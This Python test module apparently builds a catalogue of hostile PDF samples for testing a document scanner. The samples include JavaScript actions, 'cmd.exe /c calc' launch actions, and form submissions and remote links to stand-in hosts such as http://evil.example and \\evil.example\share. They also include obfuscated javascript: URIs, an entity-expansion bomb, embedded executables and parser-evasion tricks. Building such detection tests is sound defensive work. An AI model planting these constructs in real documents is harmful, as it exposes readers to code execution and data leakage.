"""PDFs that act on their reader, reach out, hide something or cost too much; each is right in all else."""

from pikepdf import Array, Dictionary, Name, Pdf, String

from documents.tests import samples
from documents.tests.hostile import EXE, FILES, PROGRAMS, pdf_with
from documents.tests.pdfs import (
    OWNER_ONLY,
    PACKED,
    action,
    annotation,
    appended,
    built,
    field,
    files,
    formatted,
    numbered,
    on_click,
    opening,
    packed,
    plain,
    replaced,
    script,
    stream,
    template,
    with_object_streams,
    xfa,
    zeros,
)

LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def names_tree(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script())]))
    )


def page_opened(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=script())


def closing(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=script())


def script_in_a_stream(pdf: Pdf) -> None:
    pdf.Root.OpenAction = action(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))


def chained(pdf: Pdf) -> None:
    goto = action(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
    goto.Next = Array([action(S=Name.Named, N=Name.NextPage, Next=pdf.make_indirect(script()))])
    pdf.Root.OpenAction = goto


def of_an_outline(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Start"), A=LAUNCH))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def started(**fields) -> bytes:
    return built(opening(action(S=Name.Launch, **fields)))


def other_file(kind: str, target: str, *, key: str = "F") -> bytes:
    """A link into another file, that its specification names by one key."""
    where = Dictionary({"/Type": Name.Filespec, f"/{key}": String(target)})
    return built(on_click(action(S=Name(f"/{kind}"), F=where, D=Array([0, Name.Fit]))))


def link(target: str | bytes) -> bytes:
    return built(on_click(action(S=Name.URI, URI=String(target))))


def base_of_links(pdf: Pdf) -> None:
    pdf.Root.URI = Dictionary(Base=String("file://evil.example/share/"))
    on_click(action(S=Name.URI, URI=String("a.exe")))(pdf)


def nameless_attachment(content: bytes) -> bytes:
    return plain(
        b"<</Type/Filespec/EF<</F 6 0 R>>>>",
        packed(content, b"/Type/EmbeddedFile"),
        page=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>]",
    )


def two_names(pdf: Pdf) -> None:
    pdf.attachments["order.txt"] = b"WScript.Echo(1)"
    for specification in pdf.attachments.values():
        specification.obj.F = String("order.js")


def related(pdf: Pdf) -> None:
    """A file that comes along with an attached one."""
    pdf.attachments["order.xml"] = b"<order/>"
    beside = Array([String("setup.exe"), pdf.make_stream(EXE)])
    next(iter(pdf.attachments.values())).obj.RF = Dictionary(F=beside)


def nested_pdfs(depth: int) -> bytes:
    inner = built()
    for _ in range(depth):
        inner = built(files(inner__pdf=inner))
    return inner


def media(**fields) -> bytes:
    return built(annotation(Subtype=Name.Movie, Movie=Dictionary(**fields)))


def script_of_a_model(pdf: Pdf) -> None:
    model = pdf.make_stream(b"U3D", Type=Name("/3D"), Subtype=Name.U3D)
    model.OnInstantiate = pdf.make_stream(b"app.alert(1)")
    annotation(Subtype=Name("/3D"), **{"3DD": model})(pdf)


def hidden_kind(name: bytes) -> bytes:
    """The action's kind lies in an object of its own."""
    return plain(b"<</Type/Action/S 6 0 R/F(cmd.exe)>>", name, catalog=b"/OpenAction 5 0 R")


DATE = 'AFDate_FormatEx("dd/mm/yyyy");'
UNC = "\\\\evil.example\\share\\a.pdf"

BAD = {
    "pdf with a script among its names": ("a.pdf", lambda: built(names_tree), PROGRAMS),
    "pdf with a script of a page": ("a.pdf", lambda: built(page_opened), PROGRAMS),
    "pdf with a script as it closes": ("a.pdf", lambda: built(closing), PROGRAMS),
    "pdf with a script of a note": (
        "a.pdf",
        lambda: built(annotation(Subtype=Name.Text, AA=Dictionary(E=script()))),
        PROGRAMS,
    ),
    "pdf with a script of a field": ("a.pdf", lambda: built(field(AA=Dictionary(C=script()))), PROGRAMS),
    "pdf with a script in a stream": ("a.pdf", lambda: built(script_in_a_stream), PROGRAMS),
    "pdf with a script at the end of a chain": ("a.pdf", lambda: built(chained), PROGRAMS),
    "pdf with a script, packed by qpdf": (
        "a.pdf",
        lambda: built(names_tree, object_stream_mode=PACKED),
        PROGRAMS,
    ),
    "pdf with a script, owner's password only": (
        "a.pdf",
        lambda: built(names_tree, encryption=OWNER_ONLY),
        PROGRAMS,
    ),
    "pdf with a script, packed, owner's password only": (
        "a.pdf",
        lambda: built(names_tree, encryption=OWNER_ONLY, object_stream_mode=PACKED),
        PROGRAMS,
    ),
    "pdf with a script in UTF-16": ("a.pdf", lambda: built(opening(script("app.alert('ж')"))), PROGRAMS),
    "pdf with a script under all escapes": (
        "a.pdf",
        lambda: plain(b"<</#53/#4a#61#76#61#53#63#72#69#70#74/#4a#53(x)>>", catalog=b"/OpenAction 5 0 R"),
        PROGRAMS,
    ),
    "pdf with a script, straight in a right packed stream": (
        "a.pdf",
        lambda: with_object_streams(b"<</S/JavaScript/JS(x)>>"),
        PROGRAMS,
    ),
    "pdf that starts a program, its kind elsewhere": ("a.pdf", lambda: hidden_kind(b"/Launch"), PROGRAMS),
    "pdf that starts a program, its kind elsewhere and escaped": (
        "a.pdf",
        lambda: hidden_kind(b"/#4caunc#68"),
        PROGRAMS,
    ),
    "pdf that sends its form, its kind elsewhere": ("a.pdf", lambda: hidden_kind(b"/SubmitForm"), PROGRAMS),
    "pdf that starts a program of Windows": (
        "a.pdf",
        lambda: started(Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
        PROGRAMS,
    ),
    "pdf that starts a file of another host": ("a.pdf", lambda: started(F=String(UNC)), PROGRAMS),
    "pdf that starts a program from its outline": ("a.pdf", lambda: built(of_an_outline), PROGRAMS),
    "pdf that starts a program at a click": ("a.pdf", lambda: built(on_click(LAUNCH)), PROGRAMS),
    "pdf that sends its form": (
        "a.pdf",
        lambda: built(field(A=action(S=Name.SubmitForm, F=String("http://evil.example")))),
        PROGRAMS,
    ),
    "pdf that brings data in": (
        "a.pdf",
        lambda: built(opening(action(S=Name.ImportData, F=String(UNC)))),
        PROGRAMS,
    ),
    "pdf that goes to a host": ("a.pdf", lambda: other_file("GoToR", UNC), PROGRAMS),
    "pdf that goes to a host after a space": ("a.pdf", lambda: other_file("GoToR", f" {UNC}"), PROGRAMS),
    "pdf that goes to a host by PDF's own spelling": (
        "a.pdf",
        lambda: other_file("GoToR", "/evil.example/share/a.pdf"),
        PROGRAMS,
    ),
    "pdf that goes to a host of DOS": ("a.pdf", lambda: other_file("GoToR", UNC, key="DOS"), PROGRAMS),
    "pdf that goes to the web": ("a.pdf", lambda: other_file("GoToR", "http://evil.example/a"), PROGRAMS),
    "pdf that goes to an attached file of a host": ("a.pdf", lambda: other_file("GoToE", UNC), PROGRAMS),
    "pdf that follows a thread to a host": ("a.pdf", lambda: other_file("Thread", UNC), PROGRAMS),
    "pdf that goes to a host under a good name": (
        "a.pdf",
        lambda: built(
            on_click(action(S=Name.GoToR, F=Dictionary(UF=String("annex.pdf"), F=String(UNC)), D=String("x")))
        ),
        PROGRAMS,
    ),
    "pdf that plays a film of a host": (
        "a.pdf",
        lambda: media(F=String("\\\\evil.example\\a.avi")),
        PROGRAMS,
    ),
    "pdf whose stream lies on a host": (
        "a.pdf",
        lambda: plain(stream(b"", b"/F(\\\\\\\\evil.example\\\\a)"), catalog=b"/Metadata 5 0 R"),
        PROGRAMS,
    ),
    "pdf that shows a page of a host": (
        "a.pdf",
        lambda: plain(
            stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(//evil.example/a.pdf)/Page 0>>"),
            page=b"/Resources<</XObject<</X 5 0 R>>>>",
        ),
        PROGRAMS,
    ),
    "pdf that plays a rendition, by structure": (
        "a.pdf",
        lambda: built(annotation(Subtype=Name.Screen, A=action(S=Name.Rendition, OP=0, JS=String("x")))),
        PROGRAMS,
    ),
    "pdf with rich media, by structure": (
        "a.pdf",
        lambda: built(annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
        PROGRAMS,
    ),
    "pdf with a model that has a script": ("a.pdf", lambda: built(script_of_a_model), PROGRAMS),
    "pdf that opens a page of the web by itself": (
        "a.pdf",
        lambda: built(opening(action(S=Name.URI, URI=String("http://evil.example")))),
        PROGRAMS,
    ),
    "pdf with a link that is a script": ("a.pdf", lambda: link("javascript:alert(1)"), PROGRAMS),
    "pdf with a link that is a script, cut by a tab": (
        "a.pdf",
        lambda: link("java\tscript:alert(1)"),
        PROGRAMS,
    ),
    "pdf with a link that is a script, escaped": ("a.pdf", lambda: link("java%73cript:alert(1)"), PROGRAMS),
    "pdf with a link to a file": ("a.pdf", lambda: link("file:///C:/Windows/System32/calc.exe"), PROGRAMS),
    "pdf with a link to a path": ("a.pdf", lambda: link("C:\\Windows\\System32\\calc.exe"), PROGRAMS),
    "pdf with a link to a host": ("a.pdf", lambda: link(UNC), PROGRAMS),
    "pdf with a link that begins Word": (
        "a.pdf",
        lambda: link("ms-word:ofe|u|http://evil.example/a.docx"),
        PROGRAMS,
    ),
    "pdf with a link that searches": (
        "a.pdf",
        lambda: link("search-ms:query=a&crumb=location:\\\\evil.example\\share"),
        PROGRAMS,
    ),
    "pdf with links from a file's folder": ("a.pdf", lambda: built(base_of_links), PROGRAMS),
    "pdf with a format that goes on": (
        "a.pdf",
        lambda: built(formatted(DATE, DATE + "app.alert(1)")),
        PROGRAMS,
    ),
    "pdf with a format that asks a script": (
        "a.pdf",
        lambda: built(formatted(DATE, 'AFNumber_Format(app.launchURL("http://evil.example"))')),
        PROGRAMS,
    ),
    "pdf with a format that ends its line": (
        "a.pdf",
        lambda: built(formatted(DATE, 'AFDate_Format("d"\n//")\napp.alert(1)//)')),
        PROGRAMS,
    ),
    "pdf with a format after a script": (
        "a.pdf",
        lambda: built(formatted("app.alert(1);" + DATE, DATE)),
        PROGRAMS,
    ),
    "pdf with a format far before a script": (
        "a.pdf",
        lambda: built(formatted(DATE + " " * 5000 + "app.alert(1)", DATE)),
        PROGRAMS,
    ),
    "pdf with a format and a script in a stream that unpacks a thousandfold": (
        "a.pdf",
        lambda: plain(
            b"<</S/JavaScript/JS 6 0 R>>",
            stream(zeros(400), b"/Filter/FlateDecode"),
            catalog=b"/OpenAction 5 0 R",
        ),
        PROGRAMS,
    ),
    "pdf with a form of Adobe's that has a script": (
        "a.pdf",
        lambda: built(xfa(template(b"<subform><event><script>app.alert(1)</script></event></subform>"))),
        PROGRAMS,
    ),
    "pdf with a form of Adobe's that is sent": (
        "a.pdf",
        lambda: built(xfa(template(b'<x:submit xmlns:x="x" target="http://evil.example"/>'))),
        PROGRAMS,
    ),
    "pdf with a form of Adobe's, its script in two pieces": (
        "a.pdf",
        lambda: built(xfa(b"<template><scr", b"ipt>app.alert(1)</script></template>")),
        PROGRAMS,
    ),
    "pdf with a form of Adobe's in UTF-16": (
        "a.pdf",
        lambda: built(xfa("<template><script>app.alert(1)</script></template>".encode("utf-16"))),
        PROGRAMS,
    ),
    "pdf with a form of Adobe's that fetches its look": (
        "a.pdf",
        lambda: built(xfa(b'<?xml-stylesheet href="\\\\evil.example\\a.xsl" type="text/xsl"?><xdp/>')),
        PROGRAMS,
    ),
    "pdf with a form of Adobe's that fetches a picture": (
        "a.pdf",
        lambda: built(xfa(template(b'<value><image href="\\\\evil.example\\a.png"/></value>'))),
        PROGRAMS,
    ),
    "pdf with a form of Adobe's that laughs": (
        "a.pdf",
        lambda: built(xfa(b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>')),
        PROGRAMS,
    ),
    "pdf with a program": ("a.pdf", lambda: built(files(setup__exe=EXE)), FILES),
    "pdf with a renamed program": ("a.pdf", lambda: built(files(order__xml=EXE)), FILES),
    "pdf with a script file": ("a.pdf", lambda: built(files(order__js=b"WScript.Echo(1)")), FILES),
    "pdf with an archive": ("a.pdf", lambda: built(files(order__zip=samples.archive({"a": b"a"}))), FILES),
    "pdf with a web page": ("a.pdf", lambda: built(files(order__html=b"<html/>")), FILES),
    "pdf with a document with macros": (
        "a.pdf",
        lambda: built(files(order__docx=samples.office(extra={"word/vbaProject.bin": b"x"}))),
        FILES,
    ),
    "pdf with a pdf with a script": ("a.pdf", lambda: built(files(order__pdf=built(names_tree))), FILES),
    "pdf with a file of two names": ("a.pdf", lambda: built(two_names), FILES),
    "pdf with a file beside the attached one": ("a.pdf", lambda: built(related), FILES),
    "pdf with a program without a name": ("a.pdf", lambda: nameless_attachment(EXE), FILES),
    "pdf in pdf in pdf in pdf in pdf in pdf in pdf": ("a.pdf", lambda: nested_pdfs(6), FILES),
    "pdf with a script in an update": (
        "a.pdf",
        lambda: appended(plain(b"<<>>", catalog=b"/OpenAction 5 0 R"), 5, b"<</S/JavaScript/JS(x)>>"),
        PROGRAMS,
    ),
    "pdf with a new catalog in an update": (
        "a.pdf",
        lambda: appended(plain(), 1, b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd)>>>>"),
        PROGRAMS,
    ),
    "pdf with a script whose table is wrong": (
        "a.pdf",
        lambda: replaced(
            b"0000000015",
            b"0000000999",
            plain(catalog=b"/OpenAction<</S/JavaScript/JS(x)>>").replace(b"0000000009", b"0000000015"),
        ),
        PROGRAMS,
    ),
    "pdf with a script that no table names": (
        "a.pdf",
        lambda: pdf_with(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>").replace(
            b"startxref\n9", b"startxref\n0"
        ),
        PROGRAMS,
    ),
    "only objects, with a script in one": (
        "a.pdf",
        lambda: samples.pdf(b"1 0 obj\n<</S/SubmitForm/F(http://evil.example)>>\nendobj"),
        PROGRAMS,
    ),
    "only objects, with a program behind a remark of no alphabet": (
        "a.pdf",
        lambda: plain(b"[" * 500 + b"<</S%\xff\xfe\n/Launch/F(cmd)>>" + b"]" * 500),
        PROGRAMS,
    ),
    "pdf of a script that stands in the trailer": (
        "a.pdf",
        lambda: numbered(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 0/Kids[]>>",
            trailer=b"/Info<</A<</S/JavaScript/JS(x)>>>>",
        ),
        PROGRAMS,
    ),
}
